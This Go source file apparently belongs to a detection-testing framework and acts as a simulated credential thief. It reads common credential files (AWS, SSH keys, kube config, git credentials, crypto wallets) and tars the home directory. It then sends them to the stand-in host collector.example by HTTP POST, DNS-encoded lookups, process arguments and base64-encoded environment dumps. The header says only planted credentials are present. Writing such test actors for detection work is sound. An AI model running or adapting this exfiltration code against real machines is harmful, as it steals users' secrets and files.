// Command loot takes credentials that it finds lying about, and sends or hands
// them on: its argument says how.
//
// In its image there are none but those that were planted, which open nothing; and
// the host that it sends them to is below a domain that does not exist.
//
// Rule: exfiltration/planted-file, planted-credential, or
// credential-access/planted-credential-passed, and credential-access/hunt.
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base32"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

const (
	home = "/root"
	sink = "collector.example"
	// hold is the argument with which it is a program that does nothing with
	// another one.
	hold = "hold"
)

var ways = map[string]func(ctx context.Context) error{
	"files": files, "dns": name, "argument": argument, "archive": archive, "environment": environment,
	hold: func(context.Context) error { return nil },
}

func main() { stage.Play(stage.OneOf(ways)) }

func send(ctx context.Context, b []byte) error {
	_, err := wire.Request(ctx, http.DefaultClient, http.MethodPost, "https://"+sink+"/u", b)
	return err
}

// files goes through a list of what people have, and sends what is there.
func files(ctx context.Context) error {
	found := map[string]string{}
	for _, name := range []string{
		".aws/credentials", ".azure/msal_token_cache.json", ".bitcoin/wallet.dat", ".docker/config.json", ".git-credentials",
		".kube/config", ".my.cnf", ".netrc", ".npmrc", ".pgpass", ".pypirc", ".ssh/id_rsa",
	} {
		b, err := os.ReadFile(filepath.Join(home, name))
		if errors.Is(err, fs.ErrNotExist) {
			continue
		}
		if err != nil {
			return err
		}
		found[name] = string(b)
	}
	b, err := json.Marshal(found)
	if err != nil {
		return err
	}
	return send(ctx, b)
}

// token is that of the planted URL of a repository.
func token() (string, error) {
	b, err := os.ReadFile(filepath.Join(home, ".git-credentials"))
	if err != nil {
		return "", err
	}
	_, rest, _ := strings.Cut(strings.TrimPrefix(string(b), "https://"), ":")
	secret, _, ok := strings.Cut(rest, "@")
	if !ok {
		return "", errors.New("no token in .git-credentials")
	}
	return secret, nil
}

// name asks for a host whose name has the token in it.
func name(ctx context.Context) error {
	secret, err := token()
	if err != nil {
		return err
	}
	label := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(secret[4:])))
	// Whoever asks does not care for the answer.
	_, err = net.DefaultResolver.LookupHost(ctx, label+"."+sink)
	if _, none := errors.AsType[*net.DNSError](err); none {
		return nil
	}
	return err
}

// argument hands the token to another program.
func argument(ctx context.Context) error {
	secret, err := token()
	if err != nil {
		return err
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	return exec.CommandContext(ctx, self, hold, "Authorization: token "+secret).Run()
}

// archive packs the whole home and sends it.
func archive(ctx context.Context) error {
	var packed bytes.Buffer
	compressor := gzip.NewWriter(&packed)
	w := tar.NewWriter(compressor)
	if err := errors.Join(w.AddFS(os.DirFS(home)), w.Close(), compressor.Close()); err != nil {
		return err
	}
	return send(ctx, packed.Bytes())
}

// environment sends its own.
func environment(ctx context.Context) error {
	text := strings.Join(os.Environ(), "\n")
	return send(ctx, []byte(base64.StdEncoding.EncodeToString([]byte(text))))
}
